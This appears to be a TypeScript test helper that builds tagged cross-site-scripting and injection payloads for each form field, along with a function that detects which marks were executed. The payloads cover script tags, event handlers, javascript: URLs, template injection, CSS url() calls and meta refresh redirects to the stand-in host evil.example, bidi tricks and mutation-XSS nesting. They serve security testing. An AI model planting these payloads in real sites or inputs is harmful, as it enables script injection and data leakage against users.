/** What a browser runs where a marked text is taken for markup, for an address, for a style or for a template; `hurt` tells the test. */
const ways: Record<string, (mark: string) => string> = {
  script: (mark) => `${mark}<script>hurt("${mark}")</script>`,
  image: (mark) => `"><img src=x onerror=hurt("${mark}")>${mark}`,
  drawing: (mark) => `'><svg/onload=hurt("${mark}")>${mark}`,
  address: (mark) => `javascript:hurt("${mark}")//`,
  data: (mark) => `data:text/html,<script>parent.hurt("${mark}")</script>`,
  ending: (mark) => `${mark}</title></textarea></style></script><script>hurt("${mark}")</script>`,
  template: (mark) =>
    `{{constructor.constructor('hurt("${mark}")')()}}\${hurt("${mark}")}<%=hurt("${mark}")%>`,
  style: (mark) => `${mark}</style><style>*{background:url(http://evil.example/${mark})}</style>`,
  property: (mark) => `red;background:url(http://evil.example/${mark});x:expression(hurt("${mark}"))`,
  direction: (mark) => `${mark}\u202e<b onclick=hurt("${mark}")>gpj.exe\u202c\u2066abc\u2069\u200f`,
  nul: (mark) => `${mark}\u0000<im\u0000g src=x onerror=hurt("${mark}")>\u0008\u001b[31m`,
  long: (mark) => `${mark}${'W'.repeat(170)}<i>`,
  frame: (mark) => `<iframe srcdoc="<script>parent.hurt('${mark}')</script>"></iframe>${mark}`,
  link: (mark) => `<a href="javascript:hurt('${mark}')">${mark}</a>`,
  form: (mark) => `<form action=http://evil.example/${mark}><button formaction=javascript:hurt("${mark}")>x`,
  head: (mark) =>
    `<meta http-equiv=refresh content="0;url=http://evil.example/${mark}"><base href=http://evil.example/>`,
  object: (mark) => `<object data="data:text/html,${mark}"></object><embed src=//evil.example/${mark}>`,
  open: (mark) => `<details open ontoggle=hurt("${mark}")>${mark}<input autofocus onfocus=hurt("${mark}")>`,
  markdown: (mark) => `[${mark}](javascript:hurt("${mark}")) ![x](http://evil.example/${mark}.png)`,
  plain: (mark) => `http://evil.example/${mark}`,
  animated: (mark) =>
    `<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin=hurt("${mark}") attributeName=x dur=1s />${mark}</svg>`,
  // what translations write for their own elements
  numbered: (mark) => `<0>${mark}</0><1/>{0}`,
  json: (mark) => `"}]}</script><script>hurt("${mark}")</script>`,
  entities: (mark) =>
    `&lt;img src=x onerror=hurt(&quot;${mark}&quot;)&gt;&#60;script&#62;hurt("${mark}")&#60;/script&#62;`,
  nested: (mark) =>
    `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hurt('${mark}')&gt;">`,
}
const names = Object.keys(ways)
/** How many ways there are: as many rows of a field carry each of them. */
export const WAYS = names.length

const fields: string[] = []

/** A hostile text of its own for a field: the way follows from the field and `at`, so that rows one after the other carry all of them. */
export function hostile(field: string, at = 0): string {
  let place = fields.indexOf(field)
  if (place === -1) place = fields.push(field) - 1
  const way = (place + at) % WAYS
  return ways[names[way]!]!(`zx${place}y${way}z`)
}

/** Several ways in one text, for a field that is there once. */
export const hostileOnce = (field: string): string => [0, 1, 5, 6].map((at) => hostile(field, at)).join(' ')

/** Every field that was given a hostile text. */
export const hostileFields = (): readonly string[] => fields

/** The fields and ways whose marks stand in a text. */
export function marksIn(text: string): { field: string; way: string }[] {
  return [...text.matchAll(/zx(\d+)y(\d+)z/gi)].flatMap(([, field, way]) => {
    const name = fields[Number(field)]
    return name === undefined ? [] : [{ field: name, way: names[Number(way)]! }]
  })
}

/** Each way once, by its name. */
export const everyWay = (): [string, string][] => names.map((name, at) => [name, ways[name]!(`zx0y${at}z`)])
